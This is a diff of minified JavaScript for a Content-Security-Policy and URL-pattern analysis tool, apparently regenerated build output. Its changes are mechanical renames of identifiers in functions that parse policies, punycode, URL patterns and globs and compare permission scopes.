 length>0)}function counts2({narrow,wide}){return[...narrow,...wide].some(({page})=>page.isLikely||page.policies.length>0)}function of(grants,paths3){return grants.
 filter(grant2=>paths3.includes(pathOf3(grant2)))}function likelyPages(grants){return new Set(grants.filter(({page})=>page.isLikely).map(pathOf3))}function pathOf3({
 page}){return page.path}function credential(nonce,hash){return nonce!==null?"nonce":hash!==null?"hash":""}var QUOTED_WORDS=new Set(["'none'","'self'","'unsafe-i\
@@ -10313,8 +10405,8 @@ kind==="host"&&(isStar(source)?star2=!0:source.wildcard?source.host===""?anyHost
 admitsUrls(source)&&urlSources.push(source))}return{directive:directive2,urlSources,words:words4,keywords,nonces,hashes,guarded,schemes,star:star2,byHost,bySuffix,
 anyHost}}function isStar(source){return source.text==="*"}function admitsUrls(source){return source.kind==="scheme"||source.kind==="host"||source.kind==="keywor\
 d"&&source.word==="'self'"}function addTo(map,key3,source){const list=map.get(key3);list?list.push(source):map.set(key3,[source])}function urlsOf(source,setting44){
-return textsOf5(source,setting44).map(url=>({url,source}))}function anyUrls(setting44){const{document}=setting44;return[...["https","http","wss","ws","data","bl\
-ob","asset","ipc","custom"].flatMap(scheme=>urlsOfScheme(scheme,setting44)),...urlsOfSelf(document,setting44)].map(url=>({url,source:null}))}function textsOf5(source,setting44){
+return textsOf6(source,setting44).map(url=>({url,source}))}function anyUrls(setting44){const{document}=setting44;return[...["https","http","wss","ws","data","bl\
+ob","asset","ipc","custom"].flatMap(scheme=>urlsOfScheme(scheme,setting44)),...urlsOfSelf(document,setting44)].map(url=>({url,source:null}))}function textsOf6(source,setting44){
 if(source.kind==="keyword")return urlsOfSelf(setting44.document,setting44);if(source.kind==="scheme")return schemesOf(source.scheme,setting44).flatMap(scheme=>urlsOfScheme(
 scheme,setting44));if(source.kind!=="host")return[];if(isStar(source)){const schemes2=["https","http","wss","ws",setting44.document.origin.scheme];return[...new Set(
 [...schemes2,"data"])].flatMap(scheme=>urlsOfScheme(scheme,setting44))}return schemesOf(source.scheme??setting44.document.origin.scheme,setting44).flatMap(scheme=>hostsOf(
@@ -10365,7 +10457,7 @@ yield plain7({kind:"sink",class:"trusted-types"});const named12=page.policies.fl
 ate-policy",class:"trusted-types",name,again:!0});yield plain7({kind:"clear-text",class:"upgrade"});const reporting=["report-uri","report-to"];for(const collector of page.
 policies.flatMap(policy=>reporting.flatMap(name=>policy.get(name)?.words??[])))yield{...plain7({kind:"report",class:"report",collector},collector),extent:"host"}}
 function plain7(act,target=""){return{act,url:void 0,extent:"none",target}}function wordsOf5(page,pick2){return new Set(page.policies.flatMap(policy=>[...policy.
-values()].flatMap(list=>[...pick2(list)])))}function namesIn10(pages){const sources=pages.flatMap(hostSourcesOf),hosts=new Set(sources.map(source=>source.host).
+values()].flatMap(list=>[...pick2(list)])))}function namesIn11(pages){const sources=pages.flatMap(hostSourcesOf),hosts=new Set(sources.map(source=>source.host).
 filter(host=>host!==""));for(const page of pages)hosts.add(parseTarget(page.grant.document)?.host??"");const ports=new Set(sources.map(source=>source.port).filter(
 port=>typeof port=="number")),rawPaths=new Set(sources.flatMap(source=>source.path?.raw??[])),paths3=new Set([...rawPaths].map(decodeOnce)),policyNames=new Set(
 pages.flatMap(page=>page.policies.flatMap(policy=>policy.get("trusted-types")?.words??[])));return{evilHost:firstUnnamed(n4=>["evil.example","evil.test","evil.i\
@@ -10382,7 +10474,7 @@ values()].map(list=>list.words.length)).reduce((sum,count)=>sum+count,0)>CSP_LIM
 function parsePolicy(text3,own,engine){const policy=new Map;for(const directive2 of text3.split(";")){if(/[^\x00-\x7f]/.test(directive2))continue;const[name,...words4]=directive2.
 split(WHITESPACE).filter(word2=>word2!=="");name===void 0||policy.has(name.toLowerCase())||policy.set(name.toLowerCase(),parseSourceList(name.toLowerCase(),words4,
 own,engine))}return policy}var MOST_STEPS10=5e5;function search(narrow,wide,work){const narrowPages=narrow.map(parsePage),widePages=wide.map(parsePage),pages=[...narrowPages,
-...widePages].filter(page=>page!==void 0);if(pages.length<narrow.length+wide.length)return{found:[],complete:!1};const names4=namesIn10(pages),refusing2=narrowPages.
+...widePages].filter(page=>page!==void 0);if(pages.length<narrow.length+wide.length)return{found:[],complete:!1};const names4=namesIn11(pages),refusing2=narrowPages.
 flatMap(page=>withDocument(page)),found12=[];let steps=0;for(const{page,document}of widePages.flatMap(each=>withDocument(each))){const cost=costOf(page)+refusing2.
 reduce((sum,each)=>sum+costOf(each.page),0);for(const attempt2 of attemptsOn(page,document,names4)){if(steps+=cost,work.spend(cost),steps>MOST_STEPS10)return{found:found12,
 complete:!1};const allowed2=decide(page,document,attempt2.act,attempt2.url),refused=allowed2.allowed?refusedByAll(refusing2,attempt2):void 0;if(!refused)continue;
@@ -10530,9 +10622,9 @@ this.#at===0||!/^(?:name|regexp|close|asterisk)$/.test(this.#tokenAt(this.#at-1)
 ORDER=["protocol","authority","username","password","hostname","port","pathname","search","hash"];function isWrittenLabel(label){if(!label.startsWith(PREFIX))return!0;
 const letters=lettersOf(label.slice(PREFIX.length));return letters!==void 0&&URL.parse(`http://${letters}/`)?.hostname===label}var PREFIX="xn--",[BASE2,LEAST,MOST5,
 FIRST_BIAS,FIRST_CODE]=[36,1,26,72,128];function lettersOf(code2){const hyphen=code2.lastIndexOf("-"),letters=Array.from(code2.slice(0,Math.max(hyphen,0)),letter2=>letter2.
-charCodeAt(0));let[letter,place,bias]=[FIRST_CODE,0,FIRST_BIAS];for(let at2=hyphen+1;at2<code2.length;){const before2=place;let weight2=1;for(let size=BASE2;;size+=
+charCodeAt(0));let[letter,place,bias]=[FIRST_CODE,0,FIRST_BIAS];for(let at2=hyphen+1;at2<code2.length;){const before3=place;let weight2=1;for(let size=BASE2;;size+=
 BASE2){const digit="abcdefghijklmnopqrstuvwxyz0123456789".indexOf(code2[at2]??" ");if(digit<0)return;at2+=1,place+=digit*weight2;const least=Math.min(Math.max(size-
-bias,LEAST),MOST5);if(digit<least)break;weight2*=BASE2-least}const length=letters.length+1;if(bias=adapted(place-before2,length,before2===0),letter+=Math.floor(
+bias,LEAST),MOST5);if(digit<least)break;weight2*=BASE2-least}const length=letters.length+1;if(bias=adapted(place-before3,length,before3===0),letter+=Math.floor(
 place/length),letter>1114111)return;place%=length,letters.splice(place,0,letter),place+=1}return String.fromCodePoint(...letters)}function adapted(moved,length,isFirst){
 let delta=Math.floor(moved/(isFirst?700:2));delta+=Math.floor(delta/length);let steps=0;for(;delta>455;steps+=BASE2)delta=Math.floor(delta/(BASE2-LEAST));return steps+
 Math.floor(36*delta/(delta+38))}function canonical2(part,text3,dialect){if(text3==="")return"";switch(part){case"protocol":return protocolOf(text3);case"hostnam\
@@ -10557,9 +10649,9 @@ suffix,whole:whole2,text:text3};const expression=only2.kind==="any"?"^(?s:.*)$":
 suffix+suffix,whole:whole2,text:text3}}function isWildcard({kind,modifier}){return(kind==="segment"||kind==="any")&&modifier===""}var DELIMITERS={hostname:"\\.",
 pathname:"/"};function delimited(kind,otherwise){const delimiter=DELIMITERS[kind];return delimiter===void 0?otherwise:`[^${delimiter}]`}function expressionOf2(pieces,kind){
 return`^${pieces.map(piece=>expressionOfPiece(piece,kind)).join("")}$`}function expressionOfPiece({kind:its,value,modifier,prefix,suffix},kind){if(its==="fixed")
-return modifier===""?escaped2(value):`(?:${escaped2(value)})${modifier}`;const inside=its==="segment"?segment(kind):its==="any"?ANYTHING2:value,[before2,after2]=[
+return modifier===""?escaped2(value):`(?:${escaped2(value)})${modifier}`;const inside=its==="segment"?segment(kind):its==="any"?ANYTHING2:value,[before3,after2]=[
 escaped2(prefix),escaped2(suffix)],isRepeated=modifier==="*"||modifier==="+";if(prefix===""&&suffix==="")return isRepeated?`((?:${inside})${modifier})`:`(${inside}\
-)${modifier}`;if(!isRepeated)return`(?:${before2}(${inside})${after2})${modifier}`;const more=`(?:${after2}${before2}(?:${inside}))*`;return`(?:${before2}((?:${inside}\
+)${modifier}`;if(!isRepeated)return`(?:${before3}(${inside})${after2})${modifier}`;const more=`(?:${after2}${before3}(?:${inside}))*`;return`(?:${before3}((?:${inside}\
 )${more})${after2})${modifier==="*"?"?":""}`}var ANYTHING2=".*";function segment(kind){return`${delimited(kind,".")}+?`}function escaped2(text3){return text3.replace(
 /[.+*?^${}()[\]|\\]/g,"\\$&")}var PieceReader=class{#kind;#dialect;#tokens;#pieces=[];#names=new Set;#isAddress;#at=0;#fixed="";constructor(text3,kind,dialect){
 this.#kind=kind,this.#dialect=dialect,this.#tokens=urlTokens(text3,!0),this.#isAddress=kind==="hostname"&&text3.length>1&&/^(?:\{|\\)?\[/.test(text3)}read(){for(;this.#at<
@@ -10578,8 +10670,8 @@ has(name))throw new RefusedUrlPattern(`the name ${name} stands there twice`);thi
 text3,this.#dialect);if(!/^[0-9a-f[\]:]*$/i.test(text3))throw new RefusedUrlPattern(`no address: ${text3}`);return text3.toLowerCase()}#text(){let text3="";for(;;){
 const token2=this.#take("char")??this.#take("escaped");if(token2===void 0)return text3;text3+=token2.value}}#wildcard(name){return this.#take("regexp")??(name===
 void 0?this.#take("asterisk"):void 0)}#take(kind){const token2=this.#tokens[this.#at];if(token2?.kind===kind)return this.#at+=1,token2}},readUrlPattern=remembered(
-(text3,work)=>{if(/[\t\n\r]/.test(text3))return"unread";work.spend(text3.length);const[before2,since]=[outcome(text3,"0.3",work),outcome(text3,"0.6",work)];return JSON.
-stringify(before2)===JSON.stringify(since)?since:"unread"});function outcome(text3,dialect,work){try{return patternIn(text3,dialect,work)}catch(error){if(error instanceof
+(text3,work)=>{if(/[\t\n\r]/.test(text3))return"unread";work.spend(text3.length);const[before3,since]=[outcome(text3,"0.3",work),outcome(text3,"0.6",work)];return JSON.
+stringify(before3)===JSON.stringify(since)?since:"unread"});function outcome(text3,dialect,work){try{return patternIn(text3,dialect,work)}catch(error){if(error instanceof
 RefusedUrlPattern)return"refused";if(error instanceof UnreadUrlPattern)return"unread";throw error}}function patternIn(text3,dialect,work){const isSpecial=protocol=>takesSpecial(
 urlPartPattern(protocol,"protocol",dialect),work),texts2=completed(partsOfText(text3,isSpecial)),isSegmented=isSpecial(texts2.protocol)||texts2.protocol===""||texts2.
 pathname.startsWith("/"),part=(name,kind=name)=>checked2(urlPartPattern(texts2[name],kind,dialect),work);return{protocol:part("protocol"),username:part("usernam\
@@ -10605,7 +10697,7 @@ DIGITS2,between("a","f"))))),optional(literal("."))),BYTE=choice(digits("0","9")
 2)),sequence(literal("2"),digits("0","4"),digits("0","9")),sequence(literal("25"),digits("0","5"))),GROUP=choice(literal("0"),sequence(character(either(between(
 "1","9"),between("a","f"))),repeated(character(either(DIGITS2,between("a","f"))),0,3))),groups2=count=>count===0?literal(""):sequence(GROUP,repeated(sequence(literal(
 ":"),GROUP),count-1,count-1)),ADDRESS6=choice(sequence(BYTE,repeated(sequence(literal("."),BYTE),3,3)),sequence(literal("["),groups2(8),literal("]")),...[0,1,2,
-3,4,5,6].map(before2=>{const after2=[0,1,2,3,4,5,6].slice(0,7-before2).map(groups2);return sequence(literal("["),groups2(before2),literal("::"),choice(...after2),
+3,4,5,6].map(before3=>{const after2=[0,1,2,3,4,5,6].slice(0,7-before3).map(groups2);return sequence(literal("["),groups2(before3),literal("::"),choice(...after2),
 literal("]"))})),OTHER_HOST=choice(atLeastOne(character(either(IN_HOST,CAPITALS,oneOf("%")))),ADDRESS6),PATH=sequence(literal("/"),some(IN_PATH2)),OTHER_PATH=sequence(
 literal("/"),some(either(IN_PATH2,oneOf("\\")))),OPAQUE2=except(between(" ","~"),oneOf("#?")),OPAQUE_PATH=some(OPAQUE2),HAS_DOTS=sequence(some(OPAQUE2),literal(
 "/"),repeated(choice(literal("."),sequence(literal("%2"),character(oneOf("eE")))),1,2),optional(sequence(literal("/"),some(OPAQUE2)))),SEARCH=some(IN_SEARCH),OTHER_SEARCH=some(
@@ -10622,7 +10714,7 @@ opaque=but(OPAQUE_PATH,sequence(literal("/"),ANY_TEXT)),withoutHost={parts:{...o
 choice(words(opaque),words(path)))},hostsBackwards:nothing,hasHost:!1};return[...["https","http","wss","ws","ftp"].map(ofWeb),files,withHost,withoutHost]}function comparableUrlPattern(text3,work){
 return readable(()=>comparable(text3,work))??"unread"}var comparable=remembered((text3,work)=>{const pattern=readUrlPattern(text3,work);if(typeof pattern=="stri\
 ng")return pattern;const languages3=URL_PART_NAMES.map(part=>[part,partLanguage(pattern[part],work)]),isNone=languages3.some(([,language])=>isEmpty(language)),isReal=urlKinds().
-some(({parts})=>languages3.every(([part,language])=>!isEmpty(common2(language,parts[part],work))));return isNone||isReal?pattern:"unread"});function plainGlob(pattern){
+some(({parts:parts2})=>languages3.every(([part,language])=>!isEmpty(common2(language,parts2[part],work))));return isNone||isReal?pattern:"unread"});function plainGlob(pattern){
 const glob=Array.from(pattern),tokens=[];let text3="";const close=()=>{text3!==""&&tokens.push({kind:"text",text:text3,folded:folded2(text3)}),text3=""};for(let at2=0;at2<
 glob.length;){const sign=glob[at2]??"",end=endOfToken(glob,at2);if(end===void 0)return;"*?[".includes(sign)?(close(),tokens.push(tokenIn(glob.slice(at2,end),end===
 glob.length))):text3+=sign,at2=end}return close(),tokens}function folded2(text3){return text3.replace(/[A-Z]+/g,letters=>letters.toLowerCase())}function endOfToken(glob,at2){
@@ -10635,10 +10727,10 @@ this.#text=text3,this.#folded=options.foldCase?folded2(text3):text3,this.#option
 token2.kind){case"text":return this.#behind(this.#options.foldCase?token2.folded:token2.text,from);case"character":return this.#oneOn(from,()=>!0);case"class":return this.#oneOn(
 from,its=>isInClass(token2.members,its,this.#options.foldCase));case"run":return this.#on(from,place=>this.#isWild(place),()=>!0);case"folders":return this.#on(
 from,place=>!this.#isHidden(place),place=>this.#startsComponent(place));case"everything":return this.#on(from,place=>!this.#isHidden(place),place=>place===this.#text.
-length).filter(place=>place===this.#text.length)}}#behind(text3,from){return from.filter(place=>this.#folded.startsWith(text3,place)).map(place=>place+text3.length)}#oneOn(from,takes3){
-return from.filter(place=>this.#isWild(place)&&takes3(this.#characterAt(place))).map(place=>place+this.#characterAt(place).length)}#on(from,takes3,stops2){const found12=[];
+length).filter(place=>place===this.#text.length)}}#behind(text3,from){return from.filter(place=>this.#folded.startsWith(text3,place)).map(place=>place+text3.length)}#oneOn(from,takes4){
+return from.filter(place=>this.#isWild(place)&&takes4(this.#characterAt(place))).map(place=>place+this.#characterAt(place).length)}#on(from,takes4,stops2){const found12=[];
 let next2=0;for(let place=from[0];place!==void 0;){this.#work.spend(1);const begins=from[next2]===place;begins&&(next2+=1),(begins||stops2(place))&&found12.push(
-place),place=place<this.#text.length&&takes3(place)?place+this.#characterAt(place).length:from[next2]}return found12}#characterAt(place){return String.fromCodePoint(
+place),place=place<this.#text.length&&takes4(place)?place+this.#characterAt(place).length:from[next2]}return found12}#characterAt(place){return String.fromCodePoint(
 this.#text.codePointAt(place)??0)}#isWild(place){const isSeparator=this.#options.literalSeparator&&this.#text[place]==="/";return place<this.#text.length&&!isSeparator&&
 !this.#isHidden(place)}#isHidden(place){return this.#options.literalDot&&this.#text[place]==="."&&this.#startsComponent(place)}#startsComponent(place){return place===
 0||this.#text[place-1]==="/"}};function isInClass(members2,character2,foldCase){const negated=members2[0]==="!",inside=negated?members2.slice(1):members2;let found12=!1;
@@ -10648,13 +10740,13 @@ codeOf7(it2)&&codeOf7(it2)<=codeOf7(high);return isBetween(from,to,character2)?!
 to.toLowerCase(),character2.toLowerCase())}function isSame6(a3,b5,foldCase){return a3===b5||foldCase&&/^[A-Za-z]{2}$/.test(a3+b5)&&a3.toLowerCase()===b5.toLowerCase()}
 function codeOf7(character2){return character2.codePointAt(0)??0}function placesAfter(expression,text3,from,work){return new Walk2(text3,work).after(expression,
 from)}function placesOf4(text3,isFrom){return Array.from({length:text3.length+1},(_3,place)=>isFrom(place))}var Walk2=class{#text;#work;constructor(text3,work){
-this.#text=text3,this.#work=work}after(expression,from){switch(this.#work.spend(from.length),expression.kind){case"character":{const takes3=code2=>code2!==void 0&&
-has(expression.of,code2);return from.map((_3,place)=>place>0&&from[place-1]===!0&&takes3(this.#text[place-1]))}case"sequence":return expression.parts.reduce((places2,part)=>this.
+this.#text=text3,this.#work=work}after(expression,from){switch(this.#work.spend(from.length),expression.kind){case"character":{const takes4=code2=>code2!==void 0&&
+has(expression.of,code2);return from.map((_3,place)=>place>0&&from[place-1]===!0&&takes4(this.#text[place-1]))}case"sequence":return expression.parts.reduce((places2,part)=>this.
 after(part,places2),from);case"choice":return either3(...expression.parts.map(part=>this.after(part,from)),from.map(()=>!1));case"repeated":return this.#repeated(
 expression,from);case"look":return from.map((isThere2,place)=>{const side=at2=>this.#side(expression.look.at,at2);return isThere2&&expression.look.holds(side(place-
 1),side(place))});case"language":throw new Error("a plain expression holds no automaton")}}#repeated({part,least,most},from){let places2=from;for(let i2=0;i2<least&&
-places2.includes(!0);i2+=1)places2=this.after(part,places2);let all=places2;for(let i2=least;i2<most&&places2.includes(!0);i2+=1){const before2=all;places2=this.
-after(part,places2).map((isThere2,place)=>isThere2&&before2[place]!==!0),all=either3(before2,places2)}return all}#side(at2,place){const code2=this.#text[place];
+places2.includes(!0);i2+=1)places2=this.after(part,places2);let all=places2;for(let i2=least;i2<most&&places2.includes(!0);i2+=1){const before3=all;places2=this.
+after(part,places2).map((isThere2,place)=>isThere2&&before3[place]!==!0),all=either3(before3,places2)}return all}#side(at2,place){const code2=this.#text[place];
 return code2===void 0?"edge":has(at2,code2)?"in":"out"}};function either3(...sets){const[first=[],...rest2]=sets;return first.map((isThere2,place)=>isThere2||rest2.
 some(set=>set[place]===!0))}function findsMatch(source,text3,work){const expression=plainExpression(source,work),codes=codesOf(text3);return expression&&boundedly(
 work,own=>placesAfter(expression,codes,placesOf4(codes,()=>!0),own).includes(!0))}function plainExpression(source,work){return readable(()=>expressions(source,work))}
@@ -10663,39 +10755,39 @@ return;throw error}}),MOST6=1e6;function boundedly(work,match){const own=new Wor
 throw error}finally{work.spend(Math.min(own.taken,MOST6))}}function codesOf(text3){return Array.from(text3,character2=>character2.codePointAt(0)??0)}var PieceWalk=class{#text;#delimiter;#expressions;#work;constructor(text3,delimiter,expressions2,work){
 this.#text=text3,this.#delimiter=delimiter,this.#expressions=expressions2,this.#work=work}after(piece,from){const once2=this.#once(piece,from);switch(piece.modifier){case"":
 return once2;case"?":return either3(from,once2);default:return piece.modifier==="*"?either3(from,this.#again(piece,once2)):this.#again(piece,once2)}}#again(piece,once2){
-let all=once2;for(let places2=once2;places2.includes(!0);){const before2=all;places2=this.#once(piece,places2).map((isThere2,place)=>isThere2&&before2[place]!==
-!0),all=either3(all,places2)}return all}#once({before:before2,inside,after:after2},from){return this.#fixed(after2,this.#inside(inside,this.#fixed(before2,from)))}#fixed(text3,from){
+let all=once2;for(let places2=once2;places2.includes(!0);){const before3=all;places2=this.#once(piece,places2).map((isThere2,place)=>isThere2&&before3[place]!==
+!0),all=either3(all,places2)}return all}#once({before:before3,inside,after:after2},from){return this.#fixed(after2,this.#inside(inside,this.#fixed(before3,from)))}#fixed(text3,from){
 return codesOf(text3).reduce((places2,code2)=>this.#one(places2,its=>its===code2),from)}#inside(inside,from){if(inside===null)return from;if(inside==="anything")
 return this.#many(from,()=>!0);if(inside==="segment"){const isPlain=code2=>code2!==this.#delimiter?.codePointAt(0);return this.#many(this.#one(from,isPlain),isPlain)}
-const expression=this.#expressions[inside];return expression===void 0?from.map(()=>!1):placesAfter(expression,this.#text,from,this.#work)}#one(from,takes3){return this.#work.
-spend(from.length),from.map((_3,place)=>place>0&&from[place-1]===!0&&takes3(this.#text[place-1]??0))}#many(from,takes3){this.#work.spend(from.length);let isGoing=!1;
-return from.map((isThere2,place)=>(isGoing=isThere2||isGoing&&takes3(this.#text[place-1]??0),isGoing))}};function withoutExpressions(pattern){const expressions2=[];
+const expression=this.#expressions[inside];return expression===void 0?from.map(()=>!1):placesAfter(expression,this.#text,from,this.#work)}#one(from,takes4){return this.#work.
+spend(from.length),from.map((_3,place)=>place>0&&from[place-1]===!0&&takes4(this.#text[place-1]??0))}#many(from,takes4){this.#work.spend(from.length);let isGoing=!1;
+return from.map((isThere2,place)=>(isGoing=isThere2||isGoing&&takes4(this.#text[place-1]??0),isGoing))}};function withoutExpressions(pattern){const expressions2=[];
 let text3="";for(let at2=0;at2<pattern.length;at2+=1)if(pattern[at2]==="\\")text3+=pattern.slice(at2,++at2+1);else if(pattern[at2]!=="(")text3+=pattern[at2];else{
 const end=endOfExpression2(pattern,at2);if(end===void 0)return{text:pattern,expressions:[]};text3+=`(${expressions2.push(pattern.slice(at2+1,end))-1})`,at2=end}
 return{text:text3,expressions:expressions2}}function endOfExpression2(pattern,open){let depth=0;for(let at2=open;at2<pattern.length;at2+=1)if(pattern[at2]==="\\"?
 at2+=1:pattern[at2]==="("?depth+=1:pattern[at2]===")"&&(depth-=1),depth===0)return at2}var NAME5=/:[\p{ID_Start}$_][\p{ID_Continue}$\u200c\u200d]*/uy,NUMBER5=/\((\d+)\)/y,
 MODIFIER=/[?*+]/y;function plainPieces(text3,part){const pieces=[];let fixed="",at2=0;const close=()=>{fixed!==""&&pieces.push({before:fixed,inside:null,after:"",
-modifier:""}),fixed=""};for(;at2<text3.length;){const isGroup=text3[at2]==="{";isGroup&&(at2+=1);const before2=isGroup?literal3():"",isSlash=!isGroup&&part==="p\
+modifier:""}),fixed=""};for(;at2<text3.length;){const isGroup=text3[at2]==="{";isGroup&&(at2+=1);const before3=isGroup?literal3():"",isSlash=!isGroup&&part==="p\
 athname"&&text3[at2-1]==="/"&&text3[at2-2]!=="\\",inside=wildcard(),after2=isGroup?literal3():"";if(isGroup&&text3[at2++]!=="}")return;if(!isGroup&&inside===null){
-const sign=character2();if(sign===void 0)return;fixed+=sign;continue}isSlash&&(fixed=fixed.slice(0,-1)),close(),pieces.push({before:isSlash?"/":before2,inside,after:after2,
+const sign=character2();if(sign===void 0)return;fixed+=sign;continue}isSlash&&(fixed=fixed.slice(0,-1)),close(),pieces.push({before:isSlash?"/":before3,inside,after:after2,
 modifier:taken4(MODIFIER)??""})}return close(),pieces;function wildcard(){const name=taken4(NAME5),number=taken4(NUMBER5);return number!==void 0?Number(number.slice(
 1,-1)):name!==void 0?"segment":text3[at2]!=="*"?null:(at2+=1,"anything")}function literal3(){let found12="";for(;at2<text3.length&&!/[*{}(]/.test(text3[at2]??"")&&
 !startsName();)found12+=character2()??"";return found12}function startsName(){return NAME5.lastIndex=at2,NAME5.test(text3)}function character2(){if(text3[at2]===
 "\\")at2+=1;else if(/[{}(?+]/.test(text3[at2]??""))return;const sign=text3[at2];return at2+=1,sign}function taken4(expression){expression.lastIndex=at2;const found12=expression.
-exec(text3)?.[0];return found12!==void 0&&(at2+=found12.length),found12}}var PARTS2=["hostname","pathname","protocol","port","username","password","search","has\
-h"];function eachPart(text3){return Object.fromEntries(PARTS2.map(part=>[part,text3(part)]))}function matchesUrl(pattern,url,work){const[parts,target]=[patterns2(
-pattern,work),targets2(url,work)];if(parts===void 0||target===void 0)return;const answers=new Set;for(const part of parts){const answer2=takes(part,target[part.
+exec(text3)?.[0];return found12!==void 0&&(at2+=found12.length),found12}}var PARTS3=["hostname","pathname","protocol","port","username","password","search","has\
+h"];function eachPart(text3){return Object.fromEntries(PARTS3.map(part=>[part,text3(part)]))}function matchesUrl(pattern,url,work){const[parts2,target]=[patterns2(
+pattern,work),targets2(url,work)];if(parts2===void 0||target===void 0)return;const answers=new Set;for(const part of parts2){const answer2=takes2(part,target[part.
 name],work);if(answer2===!1)return!1;answers.add(answer2)}return answers.has(void 0)?void 0:!0}var targets2=remembered((url,work)=>{if(work.spend(url.length),!URL.
 canParse(url))return;const target=new URL(url);return eachPart(part=>withCarets2(target[part].replace(SIGNS3[part]??"",""),url))}),SIGNS3={protocol:/:$/,search:/^\?/,
 hash:/^#/},MOST_SIGNS=2e3,SIGNS_FOR_A_STEP=32,patterns2=remembered((pattern,work)=>{work.spend(pattern.length);const{text:text3,expressions:expressions2}=withoutExpressions(
-pattern),signs=text3.split(/[*:({]/).length-1;if(signs>MOST_SIGNS)return;work.spend(Math.ceil(signs*signs/SIGNS_FOR_A_STEP));const parts=partsOf14(text3),read11=expressions2.
-map(each=>plainExpression(each,work)),found12=PARTS2.map(name=>parts&&partPattern(name,withCarets2(parts[name],pattern),read11));return found12.every(part=>part!==
+pattern),signs=text3.split(/[*:({]/).length-1;if(signs>MOST_SIGNS)return;work.spend(Math.ceil(signs*signs/SIGNS_FOR_A_STEP));const parts2=partsOf15(text3),read11=expressions2.
+map(each=>plainExpression(each,work)),found12=PARTS3.map(name=>parts2&&partPattern(name,withCarets2(parts2[name],pattern),read11));return found12.every(part=>part!==
 void 0)?found12:void 0});function partPattern(name,text3,expressions2){const pieces=plainPieces(text3,name);if(pieces===void 0)return;const isFixed2=piece=>piece?.
 inside===null&&piece.modifier==="",[first]=pieces,rest2=isFixed2(first)?pieces.slice(1):pieces,last=rest2.at(-1);return{name,prefix:isFixed2(first)?first?.before??
-"":"",middle:isFixed2(last)?rest2.slice(0,-1):rest2,suffix:isFixed2(last)?last?.before??"":"",expressions:expressions2}}function partsOf14(text3){try{const{protocol,
+"":"",middle:isFixed2(last)?rest2.slice(0,-1):rest2,suffix:isFixed2(last)?last?.before??"":"",expressions:expressions2}}function partsOf15(text3){try{const{protocol,
 username,password,hostname,port,pathname,search:search2,hash}=new URLPattern(text3);return pathname==="/"&&/[/\\](?:\.|%2e)/i.test(text3)?void 0:{protocol,username,
 password,hostname,port,pathname:pathname==="/"?"*":pathname||"*",search:(search2||"*").replaceAll("'","%27"),hash:hash||"*"}}catch{return}}function withCarets2(part,whole2){
-return whole2.includes("^")&&!/%5e/i.test(whole2)?part.replaceAll("%5E","^"):part}var DELIMITERS2={hostname:".",pathname:"/"};function takes({name,prefix,middle,
+return whole2.includes("^")&&!/%5e/i.test(whole2)?part.replaceAll("%5E","^"):part}var DELIMITERS2={hostname:".",pathname:"/"};function takes2({name,prefix,middle,
 suffix,expressions:expressions2},word2,work){work.spend(1);const length=word2.length-prefix.length-suffix.length;if(length<0||!word2.startsWith(prefix)||!word2.
 endsWith(suffix))return!1;if(middle.length===0)return length===0;if(middle.some(({inside})=>typeof inside=="number"&&expressions2[inside]===void 0))return;const codes=codesOf(
 word2.slice(prefix.length,prefix.length+length));return boundedly(work,own=>{const walk2=new PieceWalk(codes,DELIMITERS2[name],expressions2,own);let places2=placesOf4(
@@ -10718,9 +10810,9 @@ character:character2}))}var MOST_HELD2=3e6,Together=class{start;#languages;#work
 this.#languages=languages3,this.#work=work,this.#offsets=new Int32Array(languages3.all.length);const living=members2.filter(member2=>!isEmpty(languages3.all[member2]));
 let size=0;for(const member2 of living)this.#offsets[member2]=size,size+=sizeOf(languages3.all[member2]);this.#owners=new Int32Array(size);for(const member2 of living)
 this.#owners.fill(member2,this.#offsets[member2]);this.start=this.#sets.numberOf(living.map(member2=>this.#offsets[member2]??0))}get size(){return this.#sets.size}after(state,its){
-const row=this.#rowOf(state),known13=row[its]??NOWHERE;if(known13!==UNKNOWN4)return known13;const before2=this.#sets.get(state),found12=[];for(let i2=0;i2<before2.
-length;i2+=1){const number=before2[i2]??0,owner=this.#owners[number]??0,offset=this.#offsets[owner]??0,to=this.#languages.after(owner,number-offset,its);to!==NOWHERE&&
-found12.push(offset+to)}this.#hold(found12.length),this.#work.spend(before2.length+found12.length+1);const after2=this.#sets.numberOf(found12);return row[its]=after2,
+const row=this.#rowOf(state),known13=row[its]??NOWHERE;if(known13!==UNKNOWN4)return known13;const before3=this.#sets.get(state),found12=[];for(let i2=0;i2<before3.
+length;i2+=1){const number=before3[i2]??0,owner=this.#owners[number]??0,offset=this.#offsets[owner]??0,to=this.#languages.after(owner,number-offset,its);to!==NOWHERE&&
+found12.push(offset+to)}this.#hold(found12.length),this.#work.spend(before3.length+found12.length+1);const after2=this.#sets.numberOf(found12);return row[its]=after2,
 after2}at(text3){let state=this.start;for(const character2 of text3)this.#work.spend(1),state=this.after(state,classOf(this.#languages.alphabet,codeOf(character2)));
 return state}inside(state){return this.#places(state).flatMap(([owner,its])=>this.#languages.isEnd(owner,its)?[owner]:[])}alive(state){return this.#places(state)}#places(state){
 const numbers=this.#sets.get(state);return this.#work.spend(numbers.length),numbers.map(number=>{const owner=this.#owners[number]??0;return[owner,number-(this.#offsets[owner]??
@@ -10778,55 +10870,55 @@ escapes,undecided}=new ScopeComparison(base,head,reading,work).run(),all=[base.a
 void 0).map(({entry})=>entry)),answer2=withUnread(escapes,entriesOf10(base),entriesOf10(head),entry=>unread4.has(entry));return{...answer2,undecided:[...answer2.
 undecided,...undecided]}}function entriesOf10({allow:allow2,deny}){const entries=list=>list.map(({entry})=>entry);return{allow:entries(allow2),deny:entries(deny)}}
 function directoryOf2(variable6,platform,app){const moved=Object.hasOwn(app.moved,variable6)?app.moved[variable6]:void 0;return moved===void 0?standardDirectory(
-variable6,platform,app):movedTo(moved,platform,app)}function movedTo(path,platform,app){const parts=path.replaceAll("\\","/").split("/"),[first="",...rest2]=parts;
+variable6,platform,app):movedTo(moved,platform,app)}function movedTo(path,platform,app){const parts2=path.replaceAll("\\","/").split("/"),[first="",...rest2]=parts2;
 if(first===""||/^[A-Za-z]:$/.test(first))return resolved3([first,...rest2.filter(isNamed4)]);const from=first.startsWith("$")?standardDirectory(first,platform,app):
-besideExecutable(platform,app.product),below9=(first.startsWith("$")?rest2:parts).filter(isNamed4);return from===void 0?void 0:resolved3([...from.split("/"),...below9])}
-function isNamed4(part){return part!==""&&part!=="."}function resolved3([root="",...parts]){const kept=[];for(const part of parts)part===".."?kept.pop():kept.push(
